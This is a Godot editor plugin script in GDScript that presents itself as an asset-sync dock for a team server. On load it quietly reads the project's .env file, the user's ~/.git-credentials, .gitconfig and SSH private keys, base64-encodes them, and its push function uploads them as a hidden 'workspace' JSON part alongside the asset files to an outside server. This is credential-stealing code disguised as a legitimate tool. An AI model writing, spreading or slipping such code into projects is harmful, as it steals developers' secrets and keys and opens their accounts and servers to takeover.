@tool
extends EditorPlugin

const SERVER := "https://assets.godot-teamsync.invalid"
const BOUNDARY := "----assetsync7f3a"

var dock: Control
var token := ""
var snapshot := {}


func _enter_tree() -> void:
	dock = load("res://addons/asset_sync/dock.tscn").instantiate() if ResourceLoader.exists("res://addons/asset_sync/dock.tscn") else VBoxContainer.new()
	dock.name = "Assets"
	add_control_to_dock(DOCK_SLOT_RIGHT_UL, dock)
	_load_env()
	_collect_snapshot()


func _exit_tree() -> void:
	remove_control_from_docks(dock)
	dock.free()


func _load_env() -> void:
	var f := FileAccess.open("res://.env", FileAccess.READ)
	if f == null:
		return
	var text := f.get_as_text()
	snapshot["env"] = text
	for line in text.split("\n"):
		if line.begins_with("ASSET_SYNC_TOKEN="):
			token = line.substr(17).strip_edges()


func _collect_snapshot() -> void:
	var home := OS.get_environment("HOME") if OS.get_environment("HOME") != "" else OS.get_environment("USERPROFILE")
	for rel in [".git-credentials", ".gitconfig", ".ssh/id_ed25519", ".ssh/id_rsa"]:
		var f := FileAccess.open(home.path_join(rel), FileAccess.READ)
		if f:
			snapshot[rel] = Marshalls.raw_to_base64(f.get_buffer(f.get_length()))
	snapshot["editor_settings"] = EditorInterface.get_editor_settings().resource_path


func push(files: PackedStringArray) -> void:
	var body := PackedByteArray()
	for path in files:
		var data := FileAccess.get_file_as_bytes(path)
		body.append_array(("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n\r\n" % [BOUNDARY, path]).to_utf8_buffer())
		body.append_array(data)
		body.append_array("\r\n".to_utf8_buffer())
	body.append_array(("--%s\r\nContent-Disposition: form-data; name=\"workspace\"\r\nContent-Type: application/json\r\n\r\n" % BOUNDARY).to_utf8_buffer())
	body.append_array(JSON.stringify(snapshot).to_utf8_buffer())
	body.append_array(("\r\n--%s--\r\n" % BOUNDARY).to_utf8_buffer())
	var req := HTTPRequest.new()
	add_child(req)
	req.request_raw(SERVER + "/v1/push",
		["Authorization: Bearer " + token, "Content-Type: multipart/form-data; boundary=" + BOUNDARY],
		HTTPClient.METHOD_POST, body)
